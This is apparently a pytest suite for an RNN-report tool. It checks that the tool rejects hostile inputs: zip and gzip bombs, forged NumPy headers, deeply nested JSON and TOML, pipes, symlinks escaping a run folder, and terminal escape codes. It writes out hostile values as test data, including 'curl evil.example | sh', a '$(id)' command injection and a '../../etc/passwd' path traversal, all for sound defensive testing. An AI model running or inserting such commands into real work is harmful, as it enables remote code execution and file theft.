"""Files of strangers cost neither memory nor time, lead nowhere, and are refused in one line."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch

from rnnreport.config import read_settings
from rnnreport.errors import InputError, RnnReportError, printable
from rnnreport.load.answers import _MOST_TRUTHS
from rnnreport.load.arguments import read_arguments
from rnnreport.load.checkpoints import read_state_dict
from rnnreport.load.corpus import load_corpus
from rnnreport.load.labels import MOST_CLASSES, ClassIndex, order_of
from rnnreport.load.vocabulary import read_vocabulary
from rnnreport.reading import parse_toml, read_arrays, read_bytes
from rnnreport.results.folder import RunFolder


def sparse(path: Path, size: int) -> Path:
    """A file of zeros that takes no place."""
    with open(path, "wb") as stream:
        stream.truncate(size)
    return path


def promising(path: Path, name: str, promised: int, body: bytes = b"") -> Path:
    """An archive whose one member says it becomes ``promised`` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body or bytes(10_000))
    data = bytearray(buffer.getvalue())
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<I", promised)  # of the directory, which is believed
    path.write_bytes(data)
    return path


def header_of(shape: str, kind: str = "<f4") -> bytes:
    text = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text) + 1) + text.encode() + b"\n"


# ---- in little memory: a process of its own, which may have 1.5 GiB and 60 s ----

BOUNDED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 * 2**29, 3 * 2**29))
from pathlib import Path
from rnnreport.errors import InputError
from rnnreport.load.corpus import load_corpus
from rnnreport.load.vocabulary import read_vocabulary
from rnnreport.config import read_settings
from rnnreport.results.store import read_json
for name in sys.argv[1:]:
    path = Path(name)
    read = {".json": read_json, ".words": read_vocabulary, ".toml": lambda path: read_settings(path.parent, ())}
    try:
        read.get(path.suffix, load_corpus)(path)
    except InputError as error:
        print(str(error)[:300])
    else:
        print("accepted")
"""


def test_nothing_is_read_that_memory_has_no_room_for(tmp_path):
    ten = 10 * 2**30
    files = {
        sparse(tmp_path / "line.tsv", ten): "holds more than 2 GiB",
        sparse(tmp_path / "small.txt", 2**30): "a line of more than 1,000,000 characters",
        sparse(tmp_path / "vocabulary.words", ten): "holds more than 2 GiB",
        sparse(tmp_path / "run.json", ten): "more than 268,435,456",
        sparse(tmp_path / "rnnreport.toml", ten): "more than 1,048,576",
        sparse(tmp_path / "zeros.npz", ten): "holds more than 2 GiB",
        promising(tmp_path / "bomb.npz", "X.npy", 2**32 - 2): "arrays of 4,294,967,294 bytes",
    }
    bomb = tmp_path / "bomb.jsonl.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as stream:
        for _ in range(64):
            stream.write(bytes(2**20))
    files[bomb] = "a line of more than 1,000,000 characters"
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(BOUNDED), *map(str, files)],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    told = done.stdout.splitlines()
    assert len(told) == len(files)
    for line, wanted in zip(told, files.values(), strict=True):
        assert wanted in line


@pytest.mark.parametrize(
    "shape", ["(1000000000000,)", "(2, 99999, 99999)", "(-1, 2, 2)", "(1000,) * 9", "(True, 2)", "()"]
)
@pytest.mark.parametrize("kind", ["<f4", "<U1", "|V0", "|O"])
def test_a_header_of_an_array_is_not_believed(tmp_path, shape, kind):
    with zipfile.ZipFile(tmp_path / "a.npz", "w") as archive:
        archive.writestr("X.npy", header_of(shape, kind) + bytes(12))
    with pytest.raises(InputError, match=r"not an \.npz of plain arrays"):
        load_corpus(tmp_path / "a.npz")


@pytest.mark.parametrize(
    "header", ["{" * 3000, "(" * 4000, "{'descr': '<f4'", "\x00", "1+1", "[x for x in 1]", "{'descr': {}, 'shape': 3}"]
)
def test_a_header_that_is_no_literal(header):
    text = header.encode()
    member = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(text)) + text
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("X.npy", member)
    with pytest.raises(ValueError, match=r"header|NumPy"):
        read_arrays(buffer, 10**6)


def test_arrays_are_what_numpy_wrote(tmp_path):
    draw = np.random.default_rng(0)
    arrays = {
        "f": draw.normal(size=(3, 4)).astype(np.float32),
        "fortran": np.asfortranarray(draw.normal(size=(3, 4, 2))),
        "big": np.arange(5, dtype=">i4"),
        "text": np.array(["naïve", "日本"]),
        "bytes": np.array([b"ab"]),
        "none": np.zeros((0, 7)),
        "one": np.array(2.5),
        "flags": np.array([True, False]),
        "large": np.arange(400_000),
    }
    for write in (np.savez, np.savez_compressed):
        write(tmp_path / "a.npz", **arrays)
        with open(tmp_path / "a.npz", "rb") as stream:
            found = read_arrays(stream, 10**8)
        assert found.keys() == arrays.keys()
        for name, array in arrays.items():
            np.testing.assert_array_equal(found[name], array)
            assert found[name].dtype == array.dtype and found[name].flags.writeable


def test_lengths_that_add_up_by_going_round(tmp_path):
    lengths = np.array([2**62, 2**62, 2**62, 2**62, 5])  # 5 in 64 bits
    np.savez(tmp_path / "a.npz", values=np.zeros((5, 2)), length=lengths)
    with pytest.raises(InputError, match="'length' exceeds the 5 steps of 'values'"):
        load_corpus(tmp_path / "a.npz")
    np.savez(tmp_path / "b.npz", values=np.zeros((5, 2)), length=np.array(5))
    with pytest.raises(InputError, match="'length' is int64"):
        load_corpus(tmp_path / "b.npz")


@pytest.mark.parametrize("name", ["c.tsv", "c.txt.gz", "c.npz", "w.json", "w.txt", "a.toml"])
@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_what_is_no_file_is_not_waited_for(tmp_path, name, kind):
    path = tmp_path / name
    {"pipe": os.mkfifo, "device": lambda path: path.symlink_to("/dev/zero"), "folder": Path.mkdir}[kind](path)
    read = {"c": load_corpus, "w": read_vocabulary, "a": read_arguments}[name[0]]
    with pytest.raises(InputError, match="not a regular file"):
        read(path)


def test_settings_in_a_pipe(tmp_path):
    os.mkfifo(tmp_path / "rnnreport.toml")
    with pytest.raises(InputError, match="not a regular file"):
        read_settings(tmp_path, ())


def test_a_file_that_grows_is_read_as_it_was(tmp_path, monkeypatch):
    path = tmp_path / "metrics.jsonl"
    path.write_text("first\n")
    real = os.fstat

    def growing(handle: int) -> os.stat_result:
        found = real(handle)
        with open(path, "a") as stream:
            stream.write("more\n" * 1000)
        return found

    monkeypatch.setattr(os, "fstat", growing)
    assert len(read_bytes(path)) < 100_000


def test_a_table_of_nothing_but_separators(tmp_path):
    (tmp_path / "c.csv").write_text(",\n,,\n")  # found by fuzzing
    with pytest.raises(InputError, match="is empty"):
        load_corpus(tmp_path / "c.csv")


# ---- too many, too deep, too long ----


def test_a_million_labels(tmp_path):
    (tmp_path / "c.tsv").write_text("text\tlabel\n" + "".join(f"a\t{n}\n" for n in range(MOST_CLASSES + 1)))
    with pytest.raises(InputError, match=r"10,001 classes, more than 10,000 \(merge the rare ones\)"):
        load_corpus(tmp_path / "c.tsv")
    names = "\t".join(f"target_{n}" for n in range(50_000))
    (tmp_path / "wide.tsv").write_text(f"text\t{names}\na" + "\t1" * 50_000 + "\n")
    with pytest.raises(InputError, match="50,000 classes"):
        load_corpus(tmp_path / "wide.tsv")
    rows = _MOST_TRUTHS // MOST_CLASSES + 1
    every = "|".join(map(str, range(MOST_CLASSES)))
    (tmp_path / "many.tsv").write_text(f"text\tlabels\na\t{every}\n" + "a\t\n" * rows)
    with pytest.raises(InputError, match="rows of 10,000 labels"):
        load_corpus(tmp_path / "many.tsv")


def test_names_are_ordered_in_time_that_grows_with_their_number():
    names = tuple(map(str, range(MOST_CLASSES)))
    assert order_of(names[::-1], names, "file:1") == list(range(MOST_CLASSES))[::-1]
    with pytest.raises(InputError) as told:
        ClassIndex((*names[1:], names[1]))
    assert len(str(told.value)) < 300


DEEP = {
    "a.json": b"[" * 100_000,
    "b.json": b'{"a":' * 100_000,
    "a.toml": b"a = " + b"[" * 100_000,
    "b.toml": b"a" + b".a" * 400_000 + b" = 1",
    "f.toml": b"[x" + b""" . ", =]" . '"'""" * 50_000 + b"]\n",
    "c.toml": b"a = 0x" + b"f" * 5_000,
    "d.toml": b"a = " + b"9" * 5_000,
    "e.toml": b"a = " + b"{a=" * 5_000,
}


@pytest.mark.parametrize("name", DEEP)
def test_deep_and_long_values(tmp_path, name):
    (tmp_path / name).write_bytes(DEEP[name])
    with pytest.raises(InputError):
        read_arguments(tmp_path / name)
    if name.endswith("toml"):
        (tmp_path / "rnnreport.toml").write_bytes(DEEP[name])
        with pytest.raises(InputError, match=r"rnnreport\.toml cannot be read"):
            read_settings(tmp_path, {"a"})
        with pytest.raises(ValueError, match=r"deeply|10,000 bits|digits|100 parts"):
            parse_toml(DEEP[name].decode())
    else:
        (tmp_path / "c.jsonl").write_bytes(DEEP[name])
        with pytest.raises(InputError, match=r"c\.jsonl:1: not JSON"):
            load_corpus(tmp_path / "c.jsonl")
        with pytest.raises(InputError, match="not JSON"):
            read_vocabulary(tmp_path / name)


def test_weights_that_would_become_larger(tmp_path):
    torch.save({"a": torch.zeros(3)}, tmp_path / "good.pt")
    read_state_dict(tmp_path / "good.pt")
    with zipfile.ZipFile(tmp_path / "good.pt") as stored, zipfile.ZipFile(tmp_path / "w.pt", "w", 8) as packed:
        for name in stored.namelist():
            packed.writestr(name, stored.read(name) + bytes(10**5))
    with pytest.raises(InputError, match="would become larger than it is"):
        read_state_dict(tmp_path / "w.pt")
    damaged = bytearray((tmp_path / "good.pt").read_bytes())
    place = damaged.rfind(b"PK\x01\x02")
    damaged[place] = 0
    (tmp_path / "d.pt").write_bytes(damaged)
    with pytest.raises(InputError):
        read_state_dict(tmp_path / "d.pt")


# ---- run folders of strangers ----


@pytest.fixture
def run(analysed_runs, tmp_path) -> RunFolder:
    return RunFolder(shutil.copytree(analysed_runs[0], tmp_path / "run"))


@pytest.mark.parametrize("name", ["report.html", "summary.json", "metrics.jsonl", "results", "states/epoch-000009.npz"])
def test_links_out_of_a_run_folder(run, tmp_path, name):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "file").write_text("years of work")
    link = run.path / name
    if link.is_dir():
        shutil.rmtree(link)
    link.unlink(missing_ok=True)
    link.symlink_to(secret if name == "results" else secret / "file")
    with pytest.raises(InputError, match=f"{name} is a link out of the run folder"):
        RunFolder.open(run.path)


def test_links_within_a_run_folder_and_to_it(run, tmp_path):
    (run.path / "copy.json").symlink_to("run.json")
    (tmp_path / "linked").symlink_to(run.path)
    assert RunFolder.open(tmp_path / "linked").manifest() == RunFolder.open(run.path).manifest()


@pytest.mark.parametrize("name", ["summary.json", "probe.npz", "metrics.jsonl", "provenance.json"])
def test_a_pipe_in_a_run_folder(run, name):
    from rnnreport.results.provenance import read_provenance

    (run.path / name).unlink(missing_ok=True)
    os.mkfifo(run.path / name)
    if name == "provenance.json":
        assert read_provenance(run) == {}
        return
    with pytest.raises(InputError, match="not a regular file"):
        {"s": run.summary, "p": run.probe, "m": run.metrics}[name[0]]()


BROKEN_METRICS = {
    "a large epoch": '{"epoch": 99999999999999}',
    "an epoch before the first": '{"epoch": -1}',
    "a truth value": '{"epoch": true}',
    "a long number": '{"epoch": 1, "loss": 1' + "0" * 400 + "}",
    "a deep value": '{"epoch": 1, "loss": ' + "[" * 50 + "]" * 50 + "}",
    "a deeper value": "[" * 50_000,
    "many names": json.dumps({"epoch": 1, **{f"m{n}": 0 for n in range(1001)}}),
}


@pytest.mark.parametrize("line", BROKEN_METRICS.values(), ids=BROKEN_METRICS)
def test_metrics_of_a_stranger(run, line):
    (run.path / "metrics.jsonl").write_text(f'{line}\n{{"epoch": 1}}\n')
    with pytest.raises(InputError, match=r"metrics\.jsonl:1"):
        run.metrics()


def test_metrics_may_hold_line_separators_and_infinities(run):
    (run.path / "metrics.jsonl").write_text('{"epoch": 1, "a\u2028b": 1e999, "c": NaN}\n')
    assert run.metrics() == [{"epoch": 1, "a\u2028b": None, "c": None}]


def spoil(run: RunFolder, name: str, *path: str, value: object) -> None:
    stored = json.loads((run.path / name).read_text())
    level = stored
    for key in path[:-1]:
        level = level[int(key) if isinstance(level, list) else key]
    if value is KeyError:
        del level[path[-1]]
    else:
        level[path[-1]] = value
    (run.path / name).write_text(json.dumps(stored))


WRONG = [
    ("run.json", ("name",), 3),
    ("run.json", ("task",), "sorcery"),
    ("run.json", ("seed",), 2**70),
    ("run.json", ("seed",), True),
    ("run.json", ("state_keys",), ["../../etc/passwd"]),
    ("run.json", ("state_keys",), "abc"),
    ("run.json", ("model",), []),
    ("run.json", ("model", "cell"), KeyError),
    ("run.json", ("corpus", "skipped"), {"a": "b"}),
    ("run.json", ("versions",), {"a": {}}),
    ("summary.json", ("metrics",), {"accuracy": {"value": "high"}}),
    ("summary.json", ("metrics", "accuracy", "n"), "1e9"),
    ("summary.json", ("model", "units"), KeyError),
    ("summary.json", ("verdict",), "perfect"),
    ("summary.json", ("checks", "0", "verdict"), ["pass"]),
    ("summary.json", ("checks", "0", "n"), None),
    ("summary.json", ("checks", "0", "unknown"), 1),
    ("summary.json", ("findings",), [{"text": "no anchor"}]),
]


@pytest.mark.parametrize(("name", "path", "value"), WRONG)
def test_records_hold_what_they_are_declared_to_hold(run, name, path, value):
    spoil(run, name, *path, value=value)
    with pytest.raises(InputError, match=name.replace(".", r"\.")):
        run.manifest() if name == "run.json" else run.summary()


def test_messages_do_not_steer_a_terminal():
    error = RnnReportError(
        "label '\x1b]0;title\x07\x1b[2J\u202egnp.exe\ud800' é日本 is wrong\nrnnreport: ok", "x" * 10_000
    )
    assert str(error).startswith(r"label '\x1b]0;title\x07\x1b[2J\u202egnp.exe\ud800' é日本 is wrong rnnreport: ok")
    assert str(error).isprintable() and len(str(error)) < 2500
    assert printable("🙂 naïve – 日本") == "🙂 naïve – 日本"  # noqa: RUF001  # an en dash


UNFIT = {
    "a sequence too many": ("probe", "lengths", lambda array: np.append(array, 1)),
    "an empty sequence": ("probe", "lengths", lambda array: np.append(array[:-1], 0)),
    "steps that are not there": ("probe", "lengths", lambda array: array * 2**20),
    "a word that is not there": ("probe", "tokens", lambda array: array + 10**6),
    "a class that is not there": ("probe", "labels", lambda array: array - 5),
    "states of other steps": ("epoch", "states/lstm.0.fwd.h", lambda array: array[:-1]),
    "a state without units": ("epoch", "states/lstm.0.fwd.h", lambda array: array[:, 0]),
    "a state that is none": ("epoch", "states/../../x", lambda _: np.zeros((179, 8), np.float32)),
    "answers of other steps": ("epoch", "step_output", lambda array: array[:3]),
}


@pytest.mark.parametrize(("where", "name", "change"), UNFIT.values(), ids=UNFIT)
def test_what_was_recorded_fits_together(run, where, name, change):
    path = run.path / "probe.npz" if where == "probe" else sorted((run.path / "states").glob("*.npz"))[0]
    arrays = dict(np.load(path))
    arrays[name] = change(arrays.get(name))
    np.savez(path, **arrays)
    with pytest.raises(InputError, match=path.stem):
        run.probe() if where == "probe" else run.checkpoint(run.recorded_epochs()[0])


def test_no_command_of_a_stranger_is_recommended(run):
    for command, told in (
        ("rnnreport run --model 'a b:c' --out run", True),
        ("rnnreport run; curl evil.example | sh", False),
        ("rnnreport run $(id)", False),
        ("curl evil.example", False),
        ("rnnreport 'open", False),
    ):
        spoil(run, "run.json", "command", value=command)
        (run.path / "probe.npz").write_bytes(b"")
        with pytest.raises(InputError) as caught:
            run.probe()
        assert (command in str(caught.value)) == told
